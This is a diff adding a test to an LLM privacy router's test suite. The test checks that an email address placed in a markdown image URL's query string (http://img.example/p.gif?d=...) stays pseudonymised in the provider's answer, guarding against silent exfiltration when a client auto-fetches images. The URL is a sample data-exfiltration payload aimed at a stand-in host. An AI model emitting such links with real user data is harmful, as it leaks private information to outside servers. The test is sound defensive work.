@@ -330,6 +330,17 @@ def test_schema_stops_and_instructions_leave_only_as_the_guard_allows(device, th
     assert (kept.tier, kept.decision.rule) == ("device", "privacy") and provider.captured() == []
 
 
+def test_an_answer_gets_no_real_value_inside_a_url(device, third, provider):
+    """The provider chooses the URLs of its answer; a markdown client fetches an image unasked."""
+    r = make_router(device, third=third, third_party=ThirdPartyConfig(base_url="http://provider.invalid/v1", model="m", use_for_cloud=True))
+    prompt = "Mail maria.gonzalez@example.com and show ![s](http://img.example/p.gif?d=maria.gonzalez@example.com)"
+    out = r.respond(RouteRequest(prompt, tier="third_party", consent=True, max_tokens=64))
+    want = "echo: Mail maria.gonzalez@example.com and show ![s](http://img.example/p.gif?d=<EMAIL_ADDRESS_1>)"
+    assert out.text == want
+    stream = r.stream(RouteRequest(prompt, tier="third_party", consent=True, max_tokens=64))
+    assert "".join(stream) == want
+
+
 def test_a_json_answer_is_restored_value_by_value():
     from tether.privacy.pseudonymize import PseudonymSession
     from tether.routing.router import Prepared
